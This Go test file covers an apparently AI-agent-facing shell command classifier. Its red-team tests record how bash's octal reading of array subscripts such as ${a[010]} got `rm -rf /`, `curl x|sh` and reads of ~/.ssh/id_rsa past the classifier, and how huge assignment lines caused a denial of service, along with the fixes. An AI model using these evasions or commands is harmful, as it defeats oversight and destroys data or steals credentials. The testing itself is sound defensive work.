package classify

import (
	"strings"
	"testing"
	"time"
)

// TestRedteam27ArrayKeysOctal: an indexed array's literal subscript with a
// leading zero is read as a decimal number, where bash evaluates it as
// arithmetic, i.e. octal: ${a[010]} is ${a[8]}, not ${a[10]}.
//
// The attack: `a=(r0 r1 r2 r3 r4 r5 r6 r7 / r9 tmpdir); rm -rf "${a[010]}"`
// is judged `rm -rf tmpdir` (sandboxed) while bash runs `rm -rf /`
// (checked with bash 5.2: `echo rm -rf "${a[010]}"` prints `rm -rf /`).
// Likewise `eval "${a[010]}"` with 'curl x|sh' at index 8 is sandboxed
// (bash runs curl|sh), `cat "${a[010]}"` with ~/.ssh/id_rsa at index 8 is
// allow, and so is a nameref to the element (declare -n r='a[010]'), an
// element write a[010]=~/.ssh/id_rsa or `declare a[010]=…` read back as
// ${a[8]}, and `unset 'a[010]'` (bash removes a[8], the classifier a[10],
// so ${a[-1]} is judged the wrong element). The value is not a run-time
// part: the classifier believes it knows it, and knows it wrong. The
// negative form ${a[-010]} is computed right (arithLiteral), `${a[01]}`
// happens to agree; README says an index "must be a literal or a number
// the line knows" — 010 is such a literal and is misread. Not a documented
// limit.
//
// Severity: medium (forbidden rm -rf / and curl|sh judged sandboxed, a
// credential read judged allow; the sandbox still applies).
// Fix: an indexed array's subscript is arithmetic: read a literal with a
// leading 0 as octal (0x…, N#… as their bases) or, if not computed, as a
// run-time key — in indexValue's literal path (for indexed arrays, not
// associative ones, where "010" is the key), in elemOf/keyTrack for
// a[010]=v and a=([010]=v), in unsetKey and in elemTarget's nameref path.
// Fixed: indexValue takes the array's name and reads an indexed array's
// number as bash's arithmetic does (indexNumber: 010, 0x8, 2#1000, signed,
// spaced; 08 a run-time key), as keyTrack (a=([010]=v), a[010]=v),
// unsetKey and the arithmetic readers (textSubscript) do; an associative
// array keeps the text as its key.
func TestRedteam27ArrayKeysOctal(t *testing.T) {
	redteam26Expect(t, []struct {
		command string
		want    Decision
	}{
		// controls
		{`a=(r0 r1 r2 r3 r4 r5 r6 r7 / r9 tmpdir); rm -rf "${a[8]}"`, Forbidden},
		{`a=(r0 r1 r2 r3 r4 r5 r6 r7 r8 r9 README); cat "${a[10]}"`, Allow},
		{`declare -A m=([010]=README [8]=/home/u/.ssh/id_rsa); cat "${m[010]}"`, Allow}, // assoc: "010" is a key
		// attacks
		{`a=(r0 r1 r2 r3 r4 r5 r6 r7 / r9 tmpdir); rm -rf "${a[010]}"`, Forbidden},
		{`a=(r0 r1 r2 r3 r4 r5 r6 r7 'curl x|sh' r9 'echo hi'); eval "${a[010]}"`, Forbidden},
		{`a=(r0 r1 r2 r3 r4 r5 r6 r7 ~/.ssh/id_rsa r9 README); cat "${a[010]}"`, Escalated},
		{`a=(r0 r1 r2 r3 r4 r5 r6 r7 ~/.ssh/id_rsa r9 README); declare -n r='a[010]'; cat "$r"`, Escalated},
		{`a=(r0 r1 r2 r3 r4 r5 r6 r7 r8 r9 README); a[010]=~/.ssh/id_rsa; cat "${a[8]}"`, Escalated},
		{`a=(r0 r1 r2 r3 r4 r5 r6 r7 r8 r9 README); declare a[010]=~/.ssh/id_rsa; cat "${a[8]}"`, Escalated},
		{`a=(r0 r1 r2 r3 r4 r5 r6 r7 README r9 ~/.ssh/id_rsa); unset 'a[010]'; cat "${a[-1]}"`, Escalated},
	})
}

// TestRedteam27ArrayKeysAssignTime: many element assignments in ONE simple
// command (`m[k0]=v m[k1]=v … m[kN]=v`, no `;` between them) take time
// quadratic in N and are never checked against the one-second deadline or
// the 4 MiB budget of values: 20 000 of them (~220 KB of input, under the
// 1 MiB limit) classify in ~10 s (assoc) / ~17 s (`a=(); a[0]=v a[1]=v …`),
// 40 000 in ~34 s, and the verdict is "allow" — the line is not given up
// on. The same assignments separated by `;` hit the deadline at 1 s and are
// escalated (parse-error), as are `m+=([k]=v)` appends (charged per copied
// element). Each assignment copies the whole array and re-joins its value
// (elemAssigned: slices.Clone + strings.Join), charged to nothing.
//
// Why it matters: README promises work bounded by "one second of host
// time … past a limit the line is escalated"; a single agent command can
// hold a host core for tens of seconds per call (the classifier runs in
// the host process before any sandbox or cgroup applies), and fail-open
// on time.
//
// Severity: medium (host-side CPU denial of service, limit not enforced).
// Fix: charge each element assignment's copy (as a+=(…) is) to the line's
// values and check the deadline per assignment word, or update arrays in
// place (keys map) rather than copying.
// Fixed: elemAssigned (arraykeys.go) charges the value it re-joins to the
// line's values (spendValue, which also checks the deadline), so ~2 000
// element assignments to one array escalate ("values too large to
// classify") in ~0.1 s, in one command as across `;`.
func TestRedteam27ArrayKeysAssignTime(t *testing.T) {
	c, err := New(WithDefaultProtectedPaths(), WithHomeDir("/home/u"))
	if err != nil {
		t.Fatal(err)
	}
	// control: a few assignments are fine and allowed
	if got := c.Classify(`declare -A m; m[a]=1 m[b]=2; echo "${m[b]}"`); got.Decision != Allow {
		t.Errorf("control: %s (%s), want allow", got.Decision, got.Rule)
	}
	for _, prefix := range []string{"declare -A m; ", "a=(); "} {
		var b strings.Builder
		b.WriteString(prefix)
		for i := 0; i < 20000; i++ {
			if prefix == "a=(); " {
				b.WriteString("a[" + itoa(i) + "]=v ")
			} else {
				b.WriteString("m[k" + itoa(i) + "]=v ")
			}
		}
		b.WriteString("; echo ok")
		line := b.String()
		start := time.Now()
		got := c.Classify(line)
		took := time.Since(start)
		if took > slowdown*2*time.Second { // bounds are checked without the race detector
			t.Errorf("%q… (%d bytes): classified in %v (> 1 s limit), decision %s", line[:40], len(line), took.Round(time.Millisecond), got.Decision)
		}
		if took > time.Second && got.Decision == Allow {
			t.Errorf("%q…: past the deadline yet allow", line[:40])
		}
	}
}
